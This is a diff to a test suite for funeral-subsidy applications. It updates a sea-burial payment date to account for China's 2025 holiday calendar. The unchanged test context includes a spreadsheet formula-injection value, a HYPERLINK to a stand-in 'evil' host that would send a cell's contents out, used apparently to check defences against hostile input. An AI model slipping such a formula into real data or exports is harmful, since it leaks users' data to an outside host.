@@ -186,9 +186,11 @@ describe('funeral subsidies', () => {
     const hostile = '=HYPERLINK("http://evil/?"&A1,"x")';
     const basic = await applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'basic', organiserName: hostile, bankAccount: '6222020000000002', ground: 'no_insurance_grant', groundProof: '社保中心未享受丧葬补助金证明' });
     expect(basic.amountFen).toBe(45_000);
-    // Sea burial on Friday 2025-04-04: 3,000 + 1,600 yuan, paid 60 working days on (weekends skipped) = 2025-06-27.
+    // Sea burial on Friday 2025-04-04: 3,000 + 1,600 yuan, paid 60 working days on. Weekends alone would give Fri 06-27;
+    // the State Council's 2025 calendar takes away 05-01, 05-02, 05-05 (劳动节) and 06-02 (端午节) and adds Sunday 04-27
+    // (调休上班): 3 working days more → Wed 2025-07-02.
     const sea = await applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'sea', organiserName: '赵一', bankAccount: '6222020000000002', ceremonyDate: '2025-04-04' });
-    expect(sea).toMatchObject({ amountFen: 460_000, payableOn: '2025-06-27' });
+    expect(sea).toMatchObject({ amountFen: 460_000, payableOn: '2025-07-02' });
     await expect(applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'tree', organiserName: '赵一', bankAccount: '6222020000000002', ceremonyDate: '2025-04-04' })).rejects.toMatchObject({
       code: 'FUNERAL_SUBSIDY_NOT_CONFIGURED',
     });
